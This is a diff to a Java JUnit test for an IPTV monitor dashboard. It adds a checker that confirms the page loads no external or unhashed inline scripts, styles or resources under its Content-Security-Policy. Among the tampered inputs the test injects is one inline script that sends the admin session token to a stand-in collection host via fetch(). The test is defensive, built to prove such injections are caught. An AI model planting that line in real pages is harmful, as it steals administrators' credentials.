@@ -18,12 +18,24 @@ import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.security.MessageDigest;
 import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.HashMap;
+import java.util.HashSet;
 import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Set;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 
-import static dev.iptv.monitor.Support.await;
+import static dev.iptv.testing.Await.await;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /** The dashboard in a real headless Chromium, fed live by the monitor over server-sent events. */
@@ -60,9 +72,9 @@ class DashboardTest {
 
     HttpResponse<Buffer> page = await(WebClient.create(vertx).get(port, "127.0.0.1", "/dashboard").send());
     assertEquals(200, page.statusCode());
-    assertTrue(page.getHeader("Content-Security-Policy").contains("connect-src 'self'"));
-    assertTrue(!page.bodyAsString().contains("http://") || !page.bodyAsString().matches("(?s).*src=\"https?://.*"),
-      "nothing loaded from elsewhere");
+    String csp = page.getHeader("Content-Security-Policy");
+    assertTrue(csp.contains("connect-src 'self'"), csp);
+    assertEquals(List.of(), notThePagesOwn(page.bodyAsString(), csp), "nothing loaded from elsewhere, no script but the page's own");
 
     try (Chromium chrome = Chromium.start(1400, 1000)) {
       chrome.navigate(base + "/dashboard#token=" + TestEnv.ADMIN_TOKEN);
@@ -119,6 +131,93 @@ class DashboardTest {
       assertEquals(TestEnv.ADMIN_TOKEN, chrome.eval("sessionStorage.getItem('iptv.admin.token')"));
       assertEquals(Boolean.TRUE, chrome.eval("document.getElementById('login').hidden"));
     }
+  }
+
+  @Test
+  @DisplayName("the page check refuses every script that is not the page's own: external (any form), same-origin, or inline without its hash in the policy")
+  void pageCheckRefusesForeignScripts() throws Exception {
+    DashboardPage own = DashboardPage.load();
+    String html = own.html().toString();
+    String csp = own.contentSecurityPolicy();
+    assertEquals(List.of(), notThePagesOwn(html, csp), "the page as it is");
+    for (String extra : List.of(
+      "<script src=\"https://cdn.example.com/chart.js\"></script>",
+      "<script src='https://cdn.example.com/chart.js'></script>",
+      "<SCRIPT SRC=https://cdn.example.com/chart.js></SCRIPT>",
+      "<script defer src=\"//cdn.example.com/chart.js\"></script>",
+      "<script src=\"/dashboard/extra.js\"></script>",
+      "<script>fetch('https://collect.example.com/?t=' + sessionStorage.getItem('iptv.admin.token'))</script>",
+      "<link rel=\"stylesheet\" href=\"https://cdn.example.com/x.css\">",
+      "<img src=\"https://track.example.com/p.gif\">")) {
+      String tampered = html.replace("</head>", extra + "\n</head>");
+      assertTrue(tampered.contains(extra), "the page has a </head> to add to");
+      assertFalse(notThePagesOwn(tampered, csp).isEmpty(), "refused: " + extra);
+    }
+    for (String loose : List.of("'unsafe-inline'", "https:", "cdn.example.com", "*")) {
+      String policy = csp.replace("script-src ", "script-src " + loose + " ");
+      assertFalse(notThePagesOwn(html, policy).isEmpty(), "a policy allowing " + loose + " refused");
+    }
+  }
+
+  /**
+   * What in the page is not its own, as a list of findings (empty: all its own). The page is one
+   * self-contained file: the allowed set of script (and style, image, frame...) URLs is empty, so
+   * every {@code src}/{@code href} and every {@code url()} or {@code @import} is a finding; an
+   * inline script or style must have its SHA-256 in the policy's {@code script-src}/{@code style-src},
+   * which must list nothing but such hashes.
+   */
+  static List<String> notThePagesOwn(String html, String csp) throws Exception {
+    List<String> found = new ArrayList<>();
+    Map<String, Set<String>> policy = new HashMap<>();
+    for (String directive : csp.split(";")) {
+      List<String> words = List.of(directive.trim().split("\\s+"));
+      policy.put(words.get(0).toLowerCase(Locale.ROOT), new HashSet<>(words.subList(1, words.size())));
+    }
+    for (String tag : List.of("script", "style")) {
+      Set<String> allowed = policy.getOrDefault(tag + "-src", Set.of());
+      allowed.stream().filter(w -> !w.startsWith("'sha256-")).forEach(w -> found.add(tag + "-src allows " + w));
+      Matcher m = Pattern.compile("<" + tag + "\\b([^>]*)>(.*?)</" + tag + "\\s*>", Pattern.CASE_INSENSITIVE | Pattern.DOTALL)
+        .matcher(html);
+      int inline = 0;
+      while (m.find()) {
+        inline++;
+        Matcher src = Pattern.compile("(?i)\\ssrc\\s*=\\s*(\"[^\"]*\"|'[^']*'|[^\\s>]+)").matcher(m.group(1));
+        if (src.find()) {
+          found.add("a " + tag + " loaded from " + src.group(1));
+          continue;
+        }
+        String hash = "'sha256-" + Base64.getEncoder().encodeToString(
+          MessageDigest.getInstance("SHA-256").digest(m.group(2).getBytes(StandardCharsets.UTF_8))) + "'";
+        if (!allowed.contains(hash)) {
+          found.add("an inline " + tag + " the policy does not allow: " + brief(m.group()));
+        }
+      }
+      Matcher open = Pattern.compile("<" + tag + "\\b", Pattern.CASE_INSENSITIVE).matcher(html);
+      int opened = 0;
+      while (open.find()) {
+        opened++;
+      }
+      if (opened != inline) {
+        found.add(opened + " <" + tag + "> tags, " + inline + " of them closed");
+      }
+    }
+    // Outside the inline code: any attribute that loads something, any CSS that does.
+    String withoutScripts = html.replaceAll("(?is)<script\\b[^>]*>.*?</script\\s*>", "<script>");
+    String markup = withoutScripts.replaceAll("(?is)<style\\b[^>]*>.*?</style\\s*>", "<style>");
+    Matcher loads = Pattern.compile("<[a-z][^>]*?\\s(src|href|srcset|data|action|formaction|poster)\\s*=\\s*(\"[^\"]*\"|'[^']*'|[^\\s>]+)",
+      Pattern.CASE_INSENSITIVE).matcher(markup);
+    while (loads.find()) {
+      found.add("loads " + loads.group(1) + "=" + loads.group(2));
+    }
+    Matcher css = Pattern.compile("(?i)@import|url\\(\\s*['\"]?(?!data:|#)").matcher(withoutScripts);
+    while (css.find()) {
+      found.add("CSS that loads something: " + brief(withoutScripts.substring(css.start())));
+    }
+    return found;
+  }
+
+  private static String brief(String text) {
+    return text.length() > 80 ? text.substring(0, 80) + "..." : text;
   }
 
   @Test
